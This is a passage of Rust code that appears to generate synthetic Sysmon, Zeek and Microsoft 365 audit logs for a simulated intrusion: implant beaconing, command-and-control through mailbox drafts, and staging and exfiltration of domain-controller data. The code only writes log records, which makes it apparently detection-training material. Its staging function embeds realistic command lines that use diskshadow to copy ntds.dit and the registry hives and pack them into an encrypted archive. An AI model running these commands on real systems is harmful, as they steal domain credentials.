        let t = now + 40_000;
        let big = r.chance(0.05);
        let (ob, rb) = if big {
            (
                r.range(20_000, 400_000) as u64,
                r.range(2_000, 9_000) as u64,
            )
        } else {
            (r.range(380, 720) as u64, r.range(250, 1_400) as u64)
        };
        let sport = zeek::ephemeral(r);
        win::sysmon3(
            cx, h, t, step, &self.proc, &hip, sport, &c2_ip, "", 443, true,
        );
        zeek::https_to(
            cx,
            r,
            t,
            step,
            &hip,
            &c2_ip,
            &c2,
            443,
            Tls::Implant,
            ms(r, 150, 900),
            ob,
            rb,
        );
        self.n += 1;
        let jit = p.beacon_jitter * (2.0 * r.f64() - 1.0);
        self.next = now + ((p.beacon_period as f64) * (1.0 + jit)) as i64;
        Some(self.next.max(now + SEC))
    }
}

struct GraphC2<'p> {
    p: &'p Plan,
    r: Rng,
    next: i64,
    n: u64,
    pending_r: bool,
}

impl Gen for GraphC2<'_> {
    fn fire(&mut self, now: i64, cx: &mut Cx) -> Option<i64> {
        if now < self.next {
            return Some(self.next);
        }
        let p = self.p;
        let r = &mut self.r;
        let step = p.step(Kind::GraphC2);
        let w = cx.w;
        let h = p.h0;
        let hip = w.hosts[h].ip.clone();
        let paint = &p.paint;
        let user = &w.users[p.victim_user];
        let app = w.adv.app_id.clone();
        if self.n == 0 {
            win::sysmon22(cx, h, now, step, paint, LOGIN.name, &[LOGIN.ip]);
            let sport = zeek::ephemeral(r);
            win::sysmon3(
                cx,
                h,
                now + 50_000,
                step,
                paint,
                &hip,
                sport,
                LOGIN.ip,
                "",
                443,
                true,
            );
            zeek::https(
                cx,
                r,
                now + 50_000,
                step,
                &hip,
                &LOGIN,
                Tls::Implant,
                600_000,
                3_900,
                7_400,
            );
            let key = format!(
                "HKU\\{}\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Explorer\\UUID\\{{{}}}",
                user.sid,
                r.guid()
            );
            win::sysmon13(
                cx,
                h,
                now + 900_000,
                step,
                paint,
                &key,
                &format!("0.A{}", r.base62(60)),
            );
        }
        if self.n.is_multiple_of(10) {
            win::sysmon22(cx, h, now + 1_000_000, step, paint, GRAPH.name, &[GRAPH.ip]);
        }
        let t = now + 1_100_000;
        let sport = zeek::ephemeral(r);
        win::sysmon3(cx, h, t, step, paint, &hip, sport, GRAPH.ip, "", 443, true);
        zeek::https(
            cx,
            r,
            t,
            step,
            &hip,
            &GRAPH,
            Tls::Implant,
            ms(r, 300, 2_000),
            r.range(2_500, 9_000) as u64,
            r.range(3_000, 12_000) as u64,
        );
        let egress = w.egress_ip.clone();
        let op_ip = w.adv.operator_ip.clone();
        let info = "Client=REST;Client=RESTSystem;;";
        let pid = format!("<{}@{}.prod.outlook.com>", r.hex_upper(24), "AM9PR05MB8123");
        let ps = format!("p_{}", p.session);
        // The implant reads and deletes the operator's last command draft.
        if self.pending_r {
            let rs = format!("r_{}", p.session);
            let rid = format!("<{}@{}.prod.outlook.com>", r.hex_upper(24), "AM9PR05MB8123");
            let it = || m365::Item {
                subject: &rs,
                folder: "\\Drafts",
                size: 1_800,
                message_id: &rid,
            };
            m365::record(
                cx,
                r,
                t + 800_000,
                step,
                &m365::Op {
                    operation: "MailItemsAccessed",
                    user,
                    client_ip: &egress,
                    app_id: &app,
                    client_info: info,
                    item: Some(it()),
                    logon_type: 0,
                },
            );
            m365::record(
                cx,
                r,
                t + 1_600_000,
                step,
                &m365::Op {
                    operation: "HardDelete",
                    user,
                    client_ip: &egress,
                    app_id: &app,
                    client_info: info,
                    item: Some(it()),
                    logon_type: 0,
                },
            );
            self.pending_r = false;
        }
        // The implant posts its heartbeat / results as a draft; the operator reads and deletes it.
        let size = r.range(1_200, 6_000) as u64;
        m365::record(
            cx,
            r,
            t + 2_000_000,
            step,
            &m365::Op {
                operation: "Create",
                user,
                client_ip: &egress,
                app_id: &app,
                client_info: info,
                item: Some(m365::Item {
                    subject: &ps,
                    folder: "\\Drafts",
                    size,
                    message_id: &pid,
                }),
                logon_type: 0,
            },
        );
        let t_op = t + ms(r, 20_000, 90_000);
        m365::record(
            cx,
            r,
            t_op,
            step,
            &m365::Op {
                operation: "MailItemsAccessed",
                user,
                client_ip: &op_ip,
                app_id: &app,
                client_info: info,
                item: Some(m365::Item {
                    subject: &ps,
                    folder: "\\Drafts",
                    size,
                    message_id: &pid,
                }),
                logon_type: 0,
            },
        );
        m365::record(
            cx,
            r,
            t_op + ms(r, 1_000, 4_000),
            step,
            &m365::Op {
                operation: "HardDelete",
                user,
                client_ip: &op_ip,
                app_id: &app,
                client_info: info,
                item: Some(m365::Item {
                    subject: &ps,
                    folder: "\\Drafts",
                    size,
                    message_id: &pid,
                }),
                logon_type: 0,
            },
        );
        if r.chance(0.35) {
            let rs = format!("r_{}", p.session);
            let rid = format!("<{}@{}.prod.outlook.com>", r.hex_upper(24), "AM9PR05MB8123");
            m365::record(
                cx,
                r,
                t_op + ms(r, 5_000, 20_000),
                step,
                &m365::Op {
                    operation: "Create",
                    user,
                    client_ip: &op_ip,
                    app_id: &app,
                    client_info: info,
                    item: Some(m365::Item {
                        subject: &rs,
                        folder: "\\Drafts",
                        size: r.range(800, 3_000) as u64,
                        message_id: &rid,
                    }),
                    logon_type: 0,
                },
            );
            self.pending_r = true;
        }
        self.n += 1;
        self.next = now + (240.0 * (1.0 + 0.4 * (2.0 * r.f64() - 1.0))) as i64 * SEC;
        Some(self.next)
    }
}

// --- 10. staging, 11. exfiltration -------------------------------------------------------------

fn stage(p: &Plan, cx: &mut Cx, r: &Rng, t: i64) {
    let step = p.step(Kind::Stage);
    let w = cx.w;
    let dc = w.dc;
    let system = cx.hs[dc].system.clone();
    let svc = p.svc_dc.clone();
    let shell = win::spawn(
        cx,
        r,
        dc,
        t,
        step,
        &svc,
        &system,
        CMD,
        "C:\\Windows\\system32\\cmd.exe",
    );
    let script = "C:\\Windows\\Temp\\sd.txt";
    let e = win::spawn(cx, r, dc, t + ms(r, 2_000, 6_000), step, &shell, &system, CMD, &format!("cmd.exe /c \"echo set context persistent nowriters > {script} & echo add volume c: alias x >> {script} & echo create >> {script} & echo expose %x% z: >> {script}\""));
    win::sysmon11(cx, dc, e.started + 200, step, &e, script);
    let ds = win::spawn(
        cx,
        r,
        dc,
        e.started + ms(r, 5_000, 15_000),
        step,
        &shell,
        &system,
        "C:\\Windows\\System32\\diskshadow.exe",
        &format!("diskshadow.exe /s {script}"),
    );
    win::sys7036(
        cx,
        dc,
        ds.started + 800_000,
        step,
        "Volume Shadow Copy",
        "running",
        "VSS",
    );
    let mut tt = ds.started + ms(r, 20_000, 60_000);
    for (src, dst) in [
        ("z:\\Windows\\NTDS\\ntds.dit", "C:\\Windows\\Temp\\nt.dit"),
        (
            "z:\\Windows\\System32\\config\\SYSTEM",
            "C:\\Windows\\Temp\\sys.hiv",
        ),
        (
            "z:\\Windows\\System32\\config\\SECURITY",
            "C:\\Windows\\Temp\\sec.hiv",
        ),
    ] {
        let c = win::spawn(
            cx,
            r,
            dc,
            tt,
            step,
            &shell,
            &system,
            CMD,
            &format!("cmd.exe /c copy {src} {dst}"),
        );
        win::sysmon11(cx, dc, tt + ms(r, 500, 4_000), step, &c, dst);
        tt += ms(r, 10_000, 40_000);
    }
    win::sysmon11(cx, dc, tt, step, &svc, "C:\\Windows\\Temp\\7za.exe");
    let archive = "C:\\Windows\\Temp\\bk.7z";
    let z = win::spawn(cx, r, dc, tt + ms(r, 5_000, 20_000), step, &shell, &system, "C:\\Windows\\Temp\\7za.exe", &format!("C:\\Windows\\Temp\\7za.exe a -t7z -mx9 -mhe=on -p{} {archive} C:\\Windows\\Temp\\nt.dit C:\\Windows\\Temp\\sys.hiv C:\\Windows\\Temp\\sec.hiv", p.archive_pw));
    win::sysmon11(
        cx,
        dc,
        z.started + ms(r, 30_000, 120_000),
        step,
        &z,
        archive,
    );
    // The archive is pulled to the first foothold over SMB.
    let t2 = z.started + ms(r, 300_000, 900_000);
    let h0 = p.h0;
    let src_ip = w.hosts[h0].ip.clone();
    let dc_ip = w.hosts[dc].ip.clone();
    let who = admin_who(p, w, r, dc, t2, 0);
    let port = zeek::ephemeral(r);
    win::sysmon3(
        cx,
        h0,
        t2,
        step,
        h0_net_proc(p),
        &src_ip,
        port,
        &dc_ip,
        &w.hosts[dc].fqdn.clone(),
        445,
        true,
    );
    win::sec4624(
        cx,
        r,
        dc,
        t2 + 200,
        step,
        &Logon {
            who: &who,
            logon_type: 3,
            workstation: &w.hosts[h0].name.clone(),
            ip: &src_ip,
            port: &port.to_string(),
            package: "NTLM",
            elevated: true,
        },
    );
    win::sec5140(
        cx,
        dc,
        t2 + 500,
        step,
        &who,
        &src_ip,
        &port.to_string(),
        "\\\\*\\C$",
        "\\??\\C:\\",
    );
    win::sec5145(
        cx,
        dc,
        t2 + 700,
        step,
        &who,
        &src_ip,
        &port.to_string(),
        "\\\\*\\C$",
        "\\??\\C:\\",
        "Windows\\Temp\\bk.7z",
        false,
    );
    let size = r.range(320_000_000, 780_000_000) as u64;
    zeek::conn(
        cx,
        r,
        t2,
        step,
        &src_ip,
        &dc_ip,
        445,
        "smb,ntlm,gssapi",
        (size / 60_000_000) as i64 * SEC + 3 * SEC,
        r.range(200_000, 900_000) as u64,
        size,
    );
}

fn exfil(p: &Plan, cx: &mut Cx, r: &Rng, t: i64) {
    let step = p.step(Kind::Exfil);
    let w = cx.w;
    let h0 = p.h0;
    let hip = w.hosts[h0].ip.clone();
    let c2 = w.adv.c2_domain.clone();
    let c2_ip = w.adv.c2_ip.clone();
    let proc = p.svc_h0.clone();
    c2_lookup(p, cx, r, t, step, h0, &proc, &c2, &c2_ip);
    let total = r.range(330_000_000, 800_000_000) as u64;
    let parts = r.range(1, 4) as u64;
    let mut tt = t + ms(r, 500, 3_000);
    for _ in 0..parts {
        let size = total / parts;
        let dur = (size / r.range(3_000_000, 9_000_000) as u64) as i64 * SEC;
        let sport = zeek::ephemeral(r);
        win::sysmon3(cx, h0, tt, step, &proc, &hip, sport, &c2_ip, "", 443, true);
        zeek::https_to(
            cx,
            r,
            tt,
            step,
            &hip,
            &c2_ip,
            &c2,
            443,
            Tls::Implant,
            dur,
            size,
            r.range(40_000, 300_000) as u64,
        );
        tt += dur + ms(r, 2_000, 30_000);
    }
}
